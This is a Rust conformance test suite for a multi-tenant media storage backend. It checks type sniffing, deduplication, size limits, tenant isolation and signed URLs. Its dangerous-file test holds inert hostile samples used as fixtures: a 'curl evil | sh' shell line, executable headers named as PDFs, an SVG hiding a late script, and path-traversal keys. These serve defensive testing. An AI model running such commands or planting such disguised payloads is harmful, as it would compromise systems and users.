//! What every backend must do: return what was stored, store the same bytes once per tenant,
//! stop reading at the size limit, decide the type from the content, refuse dangerous files,
//! keep tenants apart, and serve signed URLs only until they expire.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use bytes::Bytes;
use futures::{StreamExt, TryStreamExt};
use sha2::{Digest, Sha256};
use switchboard_media::{parse_media_url, BlobStore, ByteStream, MediaError, MediaKind, UrlError, UrlSigner};

use crate::harness::tenant;

conformance!(
    stored_bytes_come_back_with_their_sniffed_type,
    the_same_bytes_are_stored_once_per_tenant,
    the_size_limit_stops_the_read,
    dangerous_files_are_refused_and_not_stored,
    tenants_cannot_read_each_others_media,
    a_signed_url_opens_its_object_until_it_expires,
);

/// A PNG header followed by `len` filler bytes.
fn png(len: usize, seed: u8) -> Vec<u8> {
    let mut v = vec![0x89, b'P', b'N', b'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, b'I', b'H', b'D', b'R'];
    v.extend((0..len).map(|i| (i as u8).wrapping_mul(31).wrapping_add(seed)));
    v
}

/// The bytes as a stream of `chunk`-sized pieces, like a multipart field arriving.
fn stream(bytes: &[u8], chunk: usize) -> ByteStream<'static> {
    let pieces: Vec<Result<Bytes, MediaError>> = bytes.chunks(chunk).map(|c| Ok(Bytes::copy_from_slice(c))).collect();
    futures::stream::iter(pieces).boxed()
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

async fn read_all(store: &dyn BlobStore, tenant: i64, sha: &str) -> (String, Vec<u8>) {
    let blob = store.get(tenant, sha).await.expect("get");
    let mime = blob.mime.clone();
    let size = blob.size;
    let chunks: Vec<Bytes> = blob.body.try_collect().await.expect("read body");
    let bytes = chunks.concat();
    assert_eq!(bytes.len() as u64, size, "size matches the body");
    (mime, bytes)
}

async fn stored_bytes_come_back_with_their_sniffed_type(store: Arc<dyn BlobStore>) {
    let t = tenant();
    // 1 MiB in 64 KiB pieces: larger than the sniffing window, so get() must stitch its head
    // back in front of the rest.
    let bytes = png(1 << 20, 7);
    let stored = store.put(t, Some("holiday.txt"), stream(&bytes, 65536), 25 << 20).await.expect("put");
    assert_eq!(stored.sha256, sha256(&bytes));
    assert_eq!(stored.size, bytes.len() as u64);
    assert_eq!(stored.mime, "image/png", "the content decides, not the .txt name");
    assert_eq!(stored.kind, MediaKind::Image);
    assert!(!stored.deduplicated);
    let (mime, back) = read_all(store.as_ref(), t, &stored.sha256).await;
    assert_eq!(mime, "image/png");
    assert!(back == bytes, "the bytes read back differ from those stored");

    let text = b"order #123 shipped".to_vec();
    let stored = store.put(t, Some("note.png"), stream(&text, 5), 1024).await.expect("put text");
    assert_eq!((stored.mime.as_str(), stored.kind), ("text/plain; charset=utf-8", MediaKind::File));
    assert_eq!(read_all(store.as_ref(), t, &stored.sha256).await.1, text);
}

async fn the_same_bytes_are_stored_once_per_tenant(store: Arc<dyn BlobStore>) {
    let (a, b) = (tenant(), tenant());
    let bytes = png(5000, 1);
    let first = store.put(a, Some("a.png"), stream(&bytes, 1000), 1 << 20).await.expect("first");
    assert!(!first.deduplicated);
    // Other chunking, other name: the same content, so the same object.
    let second = store.put(a, Some("copy.png"), stream(&bytes, 333), 1 << 20).await.expect("second");
    assert!(second.deduplicated, "the second upload of the same bytes must not write again");
    assert_eq!(second.sha256, first.sha256);
    // Another tenant's upload of the same bytes is its own object.
    assert!(!store.exists(b, &first.sha256).await.expect("exists"));
    let other = store.put(b, None, stream(&bytes, 1000), 1 << 20).await.expect("other tenant");
    assert!(!other.deduplicated, "tenants never share objects");
    assert!(store.exists(b, &first.sha256).await.expect("exists"));
    // Different bytes, different object.
    let different = store.put(a, None, stream(&png(5000, 2), 1000), 1 << 20).await.expect("different");
    assert_ne!(different.sha256, first.sha256);
    assert!(!different.deduplicated);
}

async fn the_size_limit_stops_the_read(store: Arc<dyn BlobStore>) {
    let t = tenant();
    // An endless upload: the store must give up at the limit instead of reading (and holding)
    // everything.
    let read = Arc::new(AtomicU64::new(0));
    let counter = read.clone();
    let endless: ByteStream<'static> = futures::stream::repeat_with(move || {
        counter.fetch_add(4096, Ordering::SeqCst);
        Ok(Bytes::from(vec![b'x'; 4096]))
    })
    .boxed();
    let limit = 100_000;
    let err = store.put(t, None, endless, limit).await.expect_err("over the limit");
    assert!(matches!(err, MediaError::TooLarge { limit: 100_000 }), "{err:?}");
    assert!(read.load(Ordering::SeqCst) <= limit + 4096, "read {} bytes for a {limit}-byte limit", read.load(Ordering::SeqCst));

    // Exactly at the limit is fine; one byte over is not, and nothing is stored.
    let exact = png(1000 - 16, 3);
    assert_eq!(exact.len(), 1000);
    store.put(t, None, stream(&exact, 100), 1000).await.expect("at the limit");
    let over = png(1001 - 16, 3);
    let err = store.put(t, None, stream(&over, 100), 1000).await.expect_err("one byte over");
    assert!(matches!(err, MediaError::TooLarge { .. }), "{err:?}");
    assert!(!store.exists(t, &sha256(&over)).await.expect("exists"));

    let err = store.put(t, None, stream(&[], 1), 1000).await.expect_err("empty");
    assert!(matches!(err, MediaError::Empty), "{err:?}");
}

async fn dangerous_files_are_refused_and_not_stored(store: Arc<dyn BlobStore>) {
    let t = tenant();
    let mut pe = b"MZ".to_vec();
    pe.resize(0x40, 0);
    pe[0x3c] = 0x40;
    pe.extend_from_slice(b"PE\0\0");
    pe.resize(2048, 0x90);
    let elf = {
        let mut v = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        v.resize(512, 0);
        v
    };
    // A script hidden past the sniffing window of an otherwise harmless SVG.
    let mut svg = b"<svg xmlns='http://www.w3.org/2000/svg'>".to_vec();
    svg.extend(std::iter::repeat_n(b' ', 10_000));
    svg.extend_from_slice(b"<script>fetch('/api/v1/me')</script></svg>");
    let cases: Vec<(&str, Vec<u8>, Option<&str>)> = vec![
        ("windows executable named .pdf", pe, Some("invoice.pdf")),
        ("ELF binary", elf, None),
        ("HTML page named .txt", b"<!doctype html><html><body>hi</body></html>".to_vec(), Some("readme.txt")),
        ("shell script", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), None),
        ("SVG with a late script", svg, Some("logo.svg")),
        ("harmless text named .exe", b"hello".to_vec(), Some("setup.exe")),
    ];
    for (what, bytes, name) in cases {
        let err = store.put(t, name, stream(&bytes, 1000), 1 << 20).await.expect_err(what);
        assert!(matches!(err, MediaError::Refused(_)), "{what}: {err:?}");
        assert!(!store.exists(t, &sha256(&bytes)).await.expect("exists"), "{what} was stored");
    }
    // A clean SVG is kept, as a file (not shown inline).
    let clean = b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>";
    let stored = store.put(t, Some("dot.svg"), stream(clean, 10), 1 << 20).await.expect("clean svg");
    assert_eq!((stored.mime.as_str(), stored.kind), ("image/svg+xml", MediaKind::File));
}

async fn tenants_cannot_read_each_others_media(store: Arc<dyn BlobStore>) {
    let (a, b) = (tenant(), tenant());
    let stored = store.put(a, None, stream(&png(300, 9), 100), 1 << 20).await.expect("put");
    assert!(matches!(store.get(b, &stored.sha256).await, Err(MediaError::NotFound)), "tenant B read A's object");
    assert!(!store.exists(b, &stored.sha256).await.expect("exists"));
    assert!(store.get(a, &stored.sha256).await.is_ok());
    // Keys that are not digests never reach the backend (no path tricks).
    for bad in ["../1/abc", "", "A".repeat(64).as_str(), "t/1/x"] {
        assert!(matches!(store.get(a, bad).await, Err(MediaError::NotFound)), "{bad:?}");
    }
    assert!(matches!(store.get(a, &sha256(b"never stored")).await, Err(MediaError::NotFound)));
}

async fn a_signed_url_opens_its_object_until_it_expires(store: Arc<dyn BlobStore>) {
    let t = tenant();
    let bytes = png(2000, 4);
    let stored = store.put(t, Some("scan.png"), stream(&bytes, 512), 1 << 20).await.expect("put");
    let signer = UrlSigner::new(b"test signing secret");
    let now = 1_800_000_000;
    let url = signer.sign("http://chat.example.com", t, &stored.sha256, Some("scan.png"), now + 60);
    let parsed = parse_media_url(&url).expect("a media URL");
    assert_eq!(signer.verify(&parsed, now), Ok(()));
    assert_eq!(read_all(store.as_ref(), parsed.tenant, &parsed.sha256).await.1, bytes);
    assert_eq!(signer.verify(&parsed, now + 60), Err(UrlError::Expired));
    // Pointing the signature at another tenant's copy of the same key fails.
    let guessed = switchboard_media::MediaUrl { tenant: t + 1, ..parsed.clone() };
    assert_eq!(signer.verify(&guessed, now), Err(UrlError::BadSignature));
}
